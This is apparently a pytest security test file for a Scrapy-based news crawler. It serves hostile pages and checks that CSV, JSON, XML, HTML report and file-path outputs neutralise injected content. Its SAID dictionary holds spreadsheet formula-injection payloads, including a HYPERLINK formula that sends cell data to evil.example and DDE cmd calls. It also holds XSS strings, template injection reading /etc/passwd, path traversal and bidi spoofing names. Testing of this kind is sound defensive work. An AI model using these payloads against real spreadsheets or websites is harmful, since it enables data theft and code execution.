"""What hostile pages say, on its whole way: crawled by `news`, then through every output and command that shows it.

Numbers: docs/security.md.
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from html import escape
from pathlib import Path
from urllib.parse import quote
from xml.etree import ElementTree as ET

import pyarrow.parquet as pq
import pytest

from newsbot.sites.profile import read_profile
from tests.crawl import PROJECT, Run, crawl
from tests.fault_server import FaultServer
from tests.hostile_pages import TEXT, json_ld, page
from tests.hostile_site import SETTINGS, HostileSite
from tests.stored import scrapy
from tests.test_commands_browse import Served
from tests.test_commands_newsite import newsite
from tests.test_faults_documents import story

SAID = {
    "link": '=HYPERLINK("http://evil.example/?"&A1,"Read on")',
    "plus": "+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "tab": "\t=1+1 and more of it",
    "image": '<img src=x onerror="alert(1)">',
    "script": "</title></script><script>alert(2)</script>",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7}",
    "cdata": "]]></title><evil/><![CDATA[ & &amp; &lol;",
    "nul": "A bridge\x00 with a hole\x1b[2J\x07 in it",
    "surrogate": "A bridge \ud800 of half a letter",
    "bidi": "A bridge \u202egnp.exe\u2066 that reads backwards",
    "path": "../../../../etc/passwd",
    "quote": 'A "quoted", line;\r\nwhich breaks\r\n=1+1',
    "long": "A bridge " * 115_000,
}
"""What each page says as its headline, its author, its section and more."""
DANGEROUS = re.compile(r"[=+\-@\t\r]")


def _page(name: str, said: str) -> bytes:
    plain = said.replace("\ud800", "")
    data = json.dumps(
        {
            "@type": "NewsArticle",
            "headline": said,
            "author": {"@type": "Person", "name": said[:500]},
            "articleSection": said[:500],
            "keywords": [said[:500], said[:500]],
            "description": said[:500],
            "image": {"url": "javascript:alert(3)", "caption": said[:500]},
            "url": "javascript:alert(4)",
            "publisher": {"name": said[:500]},
        }
    )
    text = page(head=json_ld(data.replace("</", "<\\/"))).replace(TEXT, f"<p>{escape(plain[:500])}</p>" + story(name))
    shown = escape(plain)[:2_000_000]
    return text.replace("Ferry sails again", shown).replace("By Ruth Okafor", f"By {shown[:200]}").encode()


class Told:
    """The crawl, its directory, its files and its articles by name."""

    def __init__(self, directory: Path, run: Run, site: HostileSite) -> None:
        self.directory = directory
        self.data = directory / "data"
        self.run = run
        self.site = site
        self.articles = {item["url"].rpartition("/")[2].partition("-")[0]: item for item in run.items}

    def exported(self, kind: str, by: str) -> Path:
        """A file that the crawl wrote, or that `scrapy export` writes now."""
        path = self.directory / f"{by}.{kind}"
        if by == "export":
            done = scrapy(self.data, "export", "-o", str(path))
            assert (done.returncode, done.stderr) == (0, "")
        return path


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Told]:
    directory = tmp_path_factory.mktemp("told")
    feeds = {str(directory / f"feed.{kind}"): {"format": kind} for kind in ("csv", "json", "jsonl", "xml", "parquet")}
    with FaultServer("127.0.0.61") as web:
        site = HostileSite(web, pages={f"/page/{name}-the-story-of-the-ferry-2026": _page(*pair) for name, pair in
                                       ((name, (name, said)) for name, said in SAID.items())})  # fmt: skip
        run = crawl(directory, "news", {"url": site.home}, settings={**SETTINGS, "FEEDS": feeds}, timeout=120)
        yield Told(directory, run, site)


def test_every_hostile_article_is_kept_beside_the_good_ones(told: Told) -> None:
    assert told.site.missing(told.run) == []
    assert set(SAID) <= told.articles.keys()
    assert "spider_exceptions/count" not in told.run.stats
    assert "\x1b" not in told.run.log
    assert len(told.run.log) < 500_000


@pytest.mark.parametrize("by", ["feed", "export"])
def test_42_no_cell_is_a_formula(told: Told, by: str) -> None:
    csv.field_size_limit(1 << 30)
    with told.exported("csv", by).open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(told.run.items)
    cells = [(name, cell) for row in rows for name, cell in row.items() if cell and DANGEROUS.match(cell)]
    assert [(name, cell) for name, cell in cells if not re.fullmatch(r"-?[\d.]+", cell)] == []
    (link,) = [row["headline"] for row in rows if "/link-" in row["url"]]
    assert link == "'" + SAID["link"]


@pytest.mark.parametrize("by", ["feed", "export"])
@pytest.mark.parametrize("kind", ["json", "jsonl", "parquet"])
def test_42_other_formats_are_whole_and_exact(told: Told, kind: str, by: str) -> None:
    path = told.exported(kind, by)
    if kind == "parquet":
        found = pq.read_table(path).to_pylist()
    else:
        text = path.read_bytes().decode("utf-8", "strict")
        found = json.loads(text) if kind == "json" else [json.loads(line) for line in text.split("\n") if line]
    headlines = {row["url"]: row["headline"] for row in found}
    assert headlines == {item["url"]: item["headline"] for item in told.run.items}
    assert SAID["link"] in headlines.values()
    assert SAID["image"] in headlines.values() or "img" not in str(told.articles["image"]["headline"])


def test_42_xml_is_well_formed(told: Told) -> None:
    tree = ET.fromstring(told.exported("xml", "feed").read_bytes())
    assert len(list(tree)) == len(told.run.items)


def test_43_the_report_and_the_browser_of_articles_show_and_run_nothing(told: Told) -> None:
    path = told.directory / "report.html"
    done = scrapy(told.data, "report", "-o", str(path))
    assert (done.returncode, done.stderr) == (0, "")
    texts = [path.read_text("utf-8")]
    served = Served(told.data)
    try:
        for where in (
            "/",
            "/news/articles",
            "/feed.atom",
            *(f"/article/{n}" for n in range(1, len(told.run.items) + 1)),
        ):
            status, headers, text = served.get(where)
            assert status == 200, where
            assert "default-src 'none'" in headers["content-security-policy"], where
            texts.append(text)
        ET.fromstring(served.get("/feed.atom")[2])
    finally:
        assert served.end() == 0
    for text in texts:
        assert "<img src=x" not in text
        assert "<script>alert" not in text
        assert "<evil" not in text
        assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*(?:javascript|data:text)""", text, re.IGNORECASE)
        assert "root:" not in text
    assert any("{{ 7 * 7 }}" in text for text in texts)


def test_44_what_is_recorded_stays_in_its_directory(tmp_path: Path) -> None:
    with FaultServer("127.0.0.62") as web:
        names = [
            "..%2f..%2f..%2fetc%2fpasswd",
            "CON",
            "a" * 300,
            "." * 30,
            "%00%0a%1b",
            "%E2%80%AEgnp",
            "-rf",
            "x%5c..%5cy",
        ]
        site = HostileSite(web, pages={f"/page/{name}/story-of-the-ferry-2026-{n}": _page(name, f"../../{name}")
                                       for n, name in enumerate(names)})  # fmt: skip
        inside = tmp_path / "inside"
        done = newsite(tmp_path, site.home, "--to", str(inside / "saved"), name="record")
    assert done.returncode == 0, done.stderr
    written = {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*") if path.is_file()}
    assert written <= {"inside", "scrapy.cfg", ".newsbot"}
    folders = [path.name for path in (inside / "saved").glob("*/*")]
    assert len(folders) > len(names)
    assert [name for name in folders if not re.fullmatch(r"[a-z0-9][a-z0-9._-]{0,119}", name)] == []


def test_44_a_profile_drafted_of_a_hostile_site_is_one(tmp_path: Path) -> None:
    with FaultServer("127.0.0.63") as web:
        pages = {f"/page/story-of-the-ferry-2026-{n}": _page(name, SAID[name]) for n, name in enumerate(SAID)}
        site = HostileSite(web, pages=pages, head='<title>"]\n[evil]\nx = 1 \x07 ../../x</title>')
        done = newsite(tmp_path, site.home)
    assert done.returncode == 0, done.stderr
    (profile,) = (tmp_path / "newsbot" / "sites").glob("*.toml")
    assert read_profile(profile).domains
    assert {path.relative_to(tmp_path).parts[0] for path in tmp_path.rglob("*")} <= {
        *("newsbot", "fixtures", "scrapy.cfg", ".newsbot"),
    }


@pytest.mark.parametrize("name", SAID)
def test_43_one_page_read_by_the_command(tmp_path: Path, name: str) -> None:
    path = tmp_path / "page.html"
    path.write_bytes(_page(name, SAID[name]))
    words = [sys.executable, "-m", "scrapy", "extract", str(path), "--url", f"https://elm.example/{quote(name)}"]
    environment = {**os.environ, "PYTHONPATH": str(PROJECT), "SCRAPY_SETTINGS_MODULE": "newsbot.settings"}
    done = subprocess.run(words, cwd=tmp_path, env=environment, capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    article = json.loads(done.stdout.decode("utf-8"))
    assert article["headline"]
    assert b"\x1b" not in done.stdout
